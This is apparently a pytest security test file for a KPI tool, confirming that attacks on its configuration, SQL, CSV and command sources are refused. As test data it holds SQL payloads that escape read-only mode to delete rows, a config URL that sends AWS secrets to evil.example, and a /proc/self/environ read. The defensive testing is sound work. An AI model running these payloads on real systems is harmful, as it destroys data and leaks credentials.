"""Security round 2 (#21), sources and configuration: each attack that worked, now refused.

The table in docs/SECURITY.md ("Sources and configuration") names the test for each row.
"""

from __future__ import annotations

import contextlib
import json
import os
import sqlite3
import subprocess
import sys
import time
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from test_collect import AS_OF, SIGNUPS_SQL, entries, kpi, make_sqlite, run, workspace

from kpitrack.domain.periods import parse_period
from kpitrack.domain.problems import UsageError
from kpitrack.reading.localconfig import LocalConfig, load_local_config
from kpitrack.reading.sources import Params, SourceError
from kpitrack.reading.sources.sql import _libpq, mask_secrets, run_postgres

PY = sys.executable
W47 = Params(parse_period("2026-W47"), parse_period("2026-W47").end)


@pytest.fixture
def here(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    folder = tmp_path / "ws"
    folder.mkdir()
    monkeypatch.chdir(folder)
    return folder


def check() -> tuple[int, str]:
    from support import invoke

    ran = invoke("check")
    return ran.code, ran.output


def git(folder: Path, *args: str) -> None:
    subprocess.run(["git", *args], cwd=folder, check=True, capture_output=True)


# ---------------------------------------------------------------- the trust boundary


@pytest.mark.parametrize(
    ("toml", "key"),
    [
        ("allow_commands = true\n", "allow_commands"),
        ('[databases]\napp = "postgresql://evil.example/${AWS_SECRET_ACCESS_KEY}"\n', "databases"),
        ('[[notify]]\nurl = "https://evil.example/"\n', "notify"),
        ('[mail]\nhost = "smtp.evil.example"\n', "mail"),
        ('source_folders = ["/"]\n', "source_folders"),
    ],
)
def test_kpitrack_toml_cannot_grant_power(here: Path, toml: str, key: str) -> None:
    make_sqlite(here / "app.db")
    _, m = workspace(here, [kpi("signups", SIGNUPS_SQL)], shared=toml)
    before = m.read_bytes()
    for result in (run(), run("--dry-run")):
        assert result.code == 2
        assert f"'{key}' is not read from kpitrack.toml" in result.output
        assert "kpitrack.local.toml" in result.output
    code, output = check()
    assert code == 2 and "kpitrack.local.toml" in output
    assert m.read_bytes() == before


def test_local_file_tracked_by_git_is_refused(here: Path) -> None:
    make_sqlite(here / "app.db")
    _, m = workspace(here, [kpi("signups", SIGNUPS_SQL)], toml='[databases]\napp = "app.db"\n')
    git(here, "init", "-q")
    git(here, "add", "kpitrack.local.toml")
    result = run()
    assert result.code == 2
    assert "git tracks this file" in result.output and "git rm --cached" in result.output
    assert entries(m) == []
    git(here, "rm", "-q", "--cached", "kpitrack.local.toml")
    assert run().code == 0
    assert [e["value"] for e in entries(m)] == [12]


def test_user_config_and_local_file_merge(tmp_path: Path) -> None:
    user = tmp_path / "user.toml"
    user.write_text(
        'allow_commands = true\ncollect_timeout = 90\n[databases]\napp = "a.db"\nb = "b.db"\n'
        '[[notify]]\nkind = "slack"\nurl = "${HOOK}"\n[mail]\nhost = "smtp"\n'
    )
    root = tmp_path / "ws"
    root.mkdir()
    (root / "kpitrack.local.toml").write_text(
        'collect_timeout = 5\nsource_folders = ["../exports"]\n[databases]\napp = "local.db"\n'
    )
    local = load_local_config(root, {"KPITRACK_CONFIG": str(user)})
    assert local.allow_commands is True and local.collect_timeout == 5
    assert dict(local.databases) == {"app": "local.db", "b": "b.db"}
    assert [dict(t) for t in local.notify] == [{"kind": "slack", "url": "${HOOK}"}]  # raw
    assert dict(local.mail) == {"host": "smtp"}
    assert local.source_folders == (tmp_path / "exports",)
    assert local.files == (user, root / "kpitrack.local.toml")
    xdg = tmp_path / "xdg"
    (xdg / "kpitrack").mkdir(parents=True)
    (xdg / "kpitrack" / "config.toml").write_text("allow_commands = true\n")
    assert load_local_config(tmp_path, {"XDG_CONFIG_HOME": str(xdg)}).allow_commands
    assert load_local_config(tmp_path, {}) == LocalConfig()
    with pytest.raises(UsageError, match="does not exist"):
        load_local_config(tmp_path, {"KPITRACK_CONFIG": str(tmp_path / "missing.toml")})
    (root / "kpitrack.local.toml").write_text("allow_commnds = true\n")
    with pytest.raises(UsageError, match="did you mean 'allow_commands'"):
        load_local_config(root, {})


def test_init_ignores_the_local_file(tmp_path: Path) -> None:
    from support import invoke

    folder = tmp_path / "new"
    assert invoke("init", str(folder)).code == 0
    assert "kpitrack.local.toml" in (folder / ".gitignore").read_text().splitlines()
    git(folder, "init", "-q")
    (folder / "kpitrack.local.toml").write_text("allow_commands = true\n")
    ignored = subprocess.run(
        ["git", "check-ignore", "-q", "kpitrack.local.toml"], cwd=folder, check=False
    )
    assert ignored.returncode == 0
    # An existing .gitignore gains the line once.
    other = tmp_path / "other"
    other.mkdir()
    (other / ".gitignore").write_text("*.lock\n")
    assert invoke("init", str(other)).code == 0
    assert invoke("init", str(other)).code == 0
    lines = (other / ".gitignore").read_text().splitlines()
    assert lines.count("kpitrack.local.toml") == 1 and lines.count("*.lock") == 1


def test_allow_commands_flag(here: Path) -> None:
    workspace(here, [kpi("cmd", f"command: [{PY}, -c, 'print(4)']\n")])
    assert run().code == 1
    result = run("--allow-commands")
    assert result.code == 0, result.output
    assert "cmd 2026-W47: 4" in result.stdout


# ---------------------------------------------------------------- SQL only reads (PostgreSQL)


PAYLOADS = [
    "SELECT count(*) AS x$$; COMMIT; BEGIN READ WRITE; DELETE FROM users; SELECT 1 AS y$$",
    "SELECT E'\\\\'' AS a; COMMIT; BEGIN READ WRITE; DELETE FROM users; SELECT ''' AS b",
    "SELECT count(*) FROM users; COMMIT; SET TRANSACTION READ WRITE; DELETE FROM users",
    "WITH d AS (DELETE FROM users RETURNING 1) SELECT count(*) FROM d",
    "SELECT set_config('default_transaction_read_only', 'off', false)",
]


def _users(url: str) -> int:
    import psycopg

    with psycopg.connect(_libpq(url), autocommit=True) as conn:
        row = conn.execute("SELECT count(*) FROM users").fetchone()
        assert row is not None
        return int(row[0])


@pytest.mark.postgres
@pytest.mark.parametrize("sql", PAYLOADS)
def test_postgresql_payloads_leave_the_table_unchanged(
    here: Path, postgres_url: str, sql: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("APP_DB_URL", postgres_url)
    source = f"sql: {json.dumps(sql)}\ndatabase: app\n"
    _, m = workspace(here, [kpi("evil", source)], toml='[databases]\napp = "${APP_DB_URL}"\n')
    _code, output = check()
    assert "KT051" not in output  # the check is no defence; the database is
    before = _users(postgres_url)
    for args in (("--dry-run",), ()):
        result = run(*args)
        if sql.startswith("SELECT set_config"):
            assert result.code in (0, 1)  # harmless: the session is rolled back
        else:
            assert result.code == 1, result.output
        assert _users(postgres_url) == before == 12
    if not sql.startswith("SELECT set_config"):
        assert entries(m) == []


TRICKS = [
    "$$",
    "x$$",
    "$a$",
    "$a$ $b$",
    "E'\\\\''",
    "E'\\''",
    "'\\'",
    "''''",
    "/* /* */ */",
    "/* /* */",
    "*/",
    "\\;",
    "--",
    '"a;b"',
    "U&'\\0061'",
    "$$'",
]
WRITES = [
    "COMMIT; BEGIN READ WRITE; DELETE FROM users",
    "COMMIT; SET TRANSACTION READ WRITE; DELETE FROM users",
    "ROLLBACK; DELETE FROM users",
    "END; DELETE FROM users",
    "DELETE FROM users",
    "CALL wipe_proc()",
    "DO $x$ BEGIN DELETE FROM users; END $x$",
]


@pytest.mark.postgres
@settings(max_examples=60, deadline=None)
@given(
    before=st.lists(st.sampled_from(TRICKS), max_size=3),
    write=st.sampled_from(WRITES),
    after=st.lists(st.sampled_from(TRICKS), max_size=3),
    separator=st.sampled_from(["; ", ";\n", " ;", "\\; ", ";/**/"]),
)
def test_postgresql_quoting_tricks_never_write(
    postgres_url: str, before: list[str], write: str, after: list[str], separator: str
) -> None:
    sql = (
        f"SELECT count(*) {' '.join(before)}{separator}{write}{separator}SELECT 1 {' '.join(after)}"
    )
    with contextlib.suppress(SourceError):
        run_postgres(_libpq(postgres_url), sql, W47, 5)
    assert _users(postgres_url) == 12


@pytest.mark.postgres
def test_postgresql_refuses_two_statements_and_a_committing_procedure(postgres_url: str) -> None:
    import psycopg

    with psycopg.connect(_libpq(postgres_url), autocommit=True) as conn:
        conn.execute(
            "CREATE OR REPLACE PROCEDURE wipe_proc() LANGUAGE plpgsql AS "
            "$$ BEGIN COMMIT; DELETE FROM users; END $$"
        )
    conninfo = _libpq(postgres_url)
    with pytest.raises(SourceError, match="multiple commands"):
        run_postgres(conninfo, "SELECT 1; SELECT 2", W47, 5)
    with pytest.raises(SourceError):
        run_postgres(conninfo, "CALL wipe_proc()", W47, 5)
    assert _users(postgres_url) == 12
    # What users configure keeps working: a key=value string, `%` in the query, parameters.
    dsn = conninfo.replace("postgresql://postgres@127.0.0.1:", "host=127.0.0.1 user=postgres port=")
    dsn = dsn.replace("/postgres", " dbname=postgres")
    sql = "SELECT count(*) FROM users WHERE 'a%' LIKE 'a%' AND created_at < :period_end"
    assert run_postgres(dsn, sql, W47, 5) == 12


# ---------------------------------------------------------------- SQLite bounded


def test_sqlite_randomblob_and_two_statements_are_stopped(here: Path) -> None:
    make_sqlite(here / "app.db")
    blob = 'sql: "SELECT length(randomblob(900000000))"\ndatabase: app\n'
    two = 'sql: "SELECT count(*) FROM users; DELETE FROM users"\ndatabase: app\n'
    _, m = workspace(
        here, [kpi("blob", blob), kpi("two", two)], toml='[databases]\napp = "app.db"\n'
    )
    result = run()
    assert result.code == 1
    assert "KPI 'blob' 2026-W47 (sql: app): query failed: string or blob too big" in result.output
    assert "KPI 'two' 2026-W47 (sql: app): query failed" in result.output
    count = sqlite3.connect(here / "app.db").execute("SELECT count(*) FROM users").fetchone()
    assert count == (17,) and entries(m) == []


def test_kpi_timeout_cannot_raise_the_local_ceiling(here: Path) -> None:
    make_sqlite(here / "app.db")
    endless = (
        'sql: "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) '
        'SELECT count(*) FROM n"\ndatabase: app\ntimeout: 3600\n'
    )
    workspace(
        here,
        [kpi("slow", endless)],
        toml='collect_timeout = 1\n[databases]\napp = "app.db"\n',
        shared="collect_timeout = 600\n",
    )
    result = run()
    assert result.code == 1
    assert "timed out after 1 s" in result.output


# ---------------------------------------------------------------- secrets never printed


@pytest.mark.parametrize(
    "value",
    [
        "host=127.0.0.1 port=1 user=u password=hunter2secret dbname=x connect_timeout=1",
        "postgresql://u:hunter2secret@127.0.0.1:1/x",
        "mysql+nosuchdriver://u:hunter2secret@127.0.0.1:1/x",
        "hunter2secret",
    ],
)
def test_database_values_are_never_printed_whole(here: Path, value: str) -> None:
    workspace(here, [kpi("signups", SIGNUPS_SQL)], toml=f"[databases]\napp = {json.dumps(value)}\n")
    result = run()
    assert result.code == 1
    assert "KPI 'signups'" in result.output
    assert "hunter2secret" not in result.output


def test_mask_secrets_in_every_form() -> None:
    assert mask_secrets("x postgresql://bob:pw1@db/app y") == "x postgresql://bob:***@db/app y"
    assert mask_secrets("host=db password=pw1 user=bob") == "host=db password=*** user=bob"
    assert mask_secrets("password = 'a b c' x") == "password = *** x"
    assert mask_secrets("db?sslpassword=pw1&x=1") == "db?sslpassword=***&x=1"
    assert mask_secrets("said hunter22", ["hunter22"]) == "said ***"


# ---------------------------------------------------------------- CSV paths and files


ENVIRON_SOURCE = "csv: /proc/self/environ\ndate_column: date\nvalue_column: count\n"


def test_csv_source_cannot_read_the_environment(
    here: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("MY_DB_PASSWORD", "hunter2secret")
    workspace(here, [kpi("leak", ENVIRON_SOURCE)])
    code, output = check()
    assert code == 1 and "error KT055" in output and "outside the workspace" in output
    assert "hunter2secret" not in output
    result = run()
    assert result.code == 1 and "hunter2secret" not in result.output


@pytest.mark.parametrize(
    "path", ["../outside/data.csv", "link.csv", "/proc/self/environ", "sub/../../outside/data.csv"]
)
def test_csv_path_stays_inside_the_workspace(here: Path, path: str) -> None:
    outside = here.parent / "outside"
    outside.mkdir()
    (outside / "data.csv").write_text("date,count\n2026-11-18,4\n")
    (here / "sub").mkdir()
    (here / "link.csv").symlink_to(outside / "data.csv")
    source = f"csv: {path}\ndate_column: date\nvalue_column: count\n"
    _, m = workspace(here, [kpi("deploys", source)])
    code, output = check()
    assert code == 1 and "outside the workspace" in output
    result = run()
    assert result.code == 1 and "outside the workspace" in result.output
    assert entries(m) == []
    if path != "/proc/self/environ":  # the local config can allow the folder
        (here / "kpitrack.local.toml").write_text(
            f"source_folders = [{json.dumps(str(outside))}]\n"
        )
        allowed = run()
        assert allowed.code == 0, allowed.output
        assert [e["value"] for e in entries(m)] == [4]


def test_csv_devices_fifos_and_caps(here: Path) -> None:
    os.mkfifo(here / "fifo.csv")
    big = here / "big.csv"
    with open(big, "wb") as fh:  # sparse: over the 32 MiB cap without writing it
        fh.write(b"date,count\n")
        fh.truncate(33 * 1024 * 1024)
    kpis = [
        kpi(name, f"csv: {path}\ndate_column: date\nvalue_column: count\n")
        for name, path in [("fifo", "fifo.csv"), ("zero", "/dev/zero"), ("big", "big.csv")]
    ]
    _, m = workspace(here, kpis, toml='source_folders = ["/dev"]\n')
    code, output = check()  # returns: the FIFO is never opened for a blocking read
    assert code == 1
    assert "fifo.csv is not a regular file" in output and "zero is not a regular file" in output
    result = run()
    assert result.code == 1
    assert "big.csv: over the limit of 33,554,432 bytes" in result.output
    assert entries(m) == []


def test_csv_path_with_nul_is_a_located_error(here: Path) -> None:
    source = 'csv: "a\\0b.csv"\ndate_column: date\nvalue_column: count\n'
    workspace(here, [kpi("nul", source)])
    code, output = check()
    assert code == 1
    assert "kpis.yaml:9:12: error KT055 KPI 'nul': source: csv holds a NUL character" in output
    assert run().code == 2


def test_csv_cells_are_quoted_short_and_escaped(here: Path) -> None:
    cell = "\x1b]0;owned\x07" + "A" * 500
    (here / "d.csv").write_text(f"date,count\n{cell},4\n")
    source = "csv: d.csv\ndate_column: date\nvalue_column: count\n"
    workspace(here, [kpi("esc", source)])
    result = run()
    assert result.code == 1
    assert "\x1b" not in result.output and "\x07" not in result.output
    assert "d.csv:2: '\\x1b]0;owned\\x07AAAAAAAAAAA...' is not a date" in result.output
    assert "A" * 30 not in result.output
    (here / "d.csv").write_text("date,count\n2026-11-19,\x1b[2J5\n")
    result = run()
    assert "the source gave '\\x1b[2J5', not a number" in result.output
    assert "\x1b" not in result.output


def test_full_width_digits_are_refused(here: Path) -> None:
    (here / "d.csv").write_text("date,count\n2026-11-18,\uff11\uff12\n")
    source = "csv: d.csv\ndate_column: date\nvalue_column: count\n"
    _, m = workspace(here, [kpi("wide", source)])
    result = run()
    assert result.code == 1 and "not a number" in result.output
    assert entries(m) == []


# ---------------------------------------------------------------- commands


def _command_kpi(program: str, timeout: int = 20) -> str:
    return kpi("cmd", f"command: [{PY}, -c, {json.dumps(program)}]\ntimeout: {timeout}\n")


def test_command_output_is_capped_while_reading(here: Path) -> None:
    flood = "import sys\nwhile True: sys.stdout.write('1' * 65536)"
    workspace(here, [_command_kpi(flood)], toml="allow_commands = true\n")
    result = run()
    assert result.code == 1
    assert "the command wrote over 65,536 bytes" in result.output


def test_command_stderr_is_capped_and_escaped(here: Path) -> None:
    flood = "import sys\nwhile True: sys.stderr.write('e' * 65536)"
    workspace(here, [_command_kpi(flood)], toml="allow_commands = true\n")
    result = run()
    assert result.code == 1
    assert "over 1,048,576 bytes to stderr" in result.output
    noisy = "import sys\nsys.stderr.write('bad \\x1b[31mred\\x1b[0m\\n'); sys.exit(4)"
    workspace(here, [_command_kpi(noisy)], toml="allow_commands = true\n")
    result = run()
    assert "exited with status 4: 'bad \\x1b[31mred\\x1b[0m'" in result.output
    assert "\x1b" not in result.output


def _gone(pid: int) -> bool:
    try:
        with open(f"/proc/{pid}/stat") as fh:
            return fh.read().rsplit(")", 1)[1].split()[0] in ("Z", "X")
    except OSError:
        return True


@pytest.mark.process
@pytest.mark.parametrize("orphaned", [False, True])
def test_timeout_kills_a_setsid_grandchild(here: Path, orphaned: bool) -> None:
    pidfile = here / "grandchild.pid"
    (here / "grandchild.py").write_text(
        f"import os, time\nos.setsid()\nopen({str(pidfile)!r}, 'w').write(str(os.getpid()))\n"
        "time.sleep(120)\n"
    )
    # orphaned: started through a process that exits at once (a daemon's double fork),
    # so the grandchild is no longer a descendant of the command.
    (here / "middle.py").write_text(
        "import subprocess, sys\nsubprocess.Popen([sys.executable, 'grandchild.py'])\n"
    )
    first = "middle.py" if orphaned else "grandchild.py"
    program = (
        "import os, subprocess, sys, time\n"
        f"subprocess.Popen([sys.executable, {first!r}])\n"
        f"while not os.path.exists({str(pidfile)!r}): time.sleep(0.01)\n"
        "time.sleep(120)\n"
    )
    workspace(here, [_command_kpi(program, timeout=3)], toml="allow_commands = true\n")
    result = run()
    assert result.code == 1 and "timed out after 3 s" in result.output, result.output
    pid = int(pidfile.read_text())
    for _ in range(100):
        if _gone(pid):
            break
        time.sleep(0.05)
    assert _gone(pid), f"grandchild {pid} survived"


# ---------------------------------------------------------------- quiet collect (#22 item 10)


def test_collect_is_quiet_unless_it_added_something(here: Path) -> None:
    from support import invoke

    make_sqlite(here / "app.db")
    _, m = workspace(here, [kpi("signups", SIGNUPS_SQL)], toml='[databases]\napp = "app.db"\n')
    quiet = invoke("collect", "--as-of", AS_OF, "--quiet")
    assert (quiet.code, quiet.stdout) == (0, "")
    assert [e["value"] for e in entries(m)] == [12]
    again = invoke("collect", "--as-of", AS_OF)
    assert (again.code, again.stdout, again.stderr) == (0, "", "")
    added = invoke("collect", "--as-of", AS_OF, "--period", "2026-W46")
    assert added.stdout.endswith("added 1 measurement(s) to measurements.yaml; 0 failure(s)\n")
    (here / "app.db").unlink()
    failed = invoke("collect", "--as-of", AS_OF, "--period", "2026-W45", "--quiet")
    assert failed.code == 1 and failed.stdout == ""
    assert "cannot open SQLite database: no such file" in failed.stderr
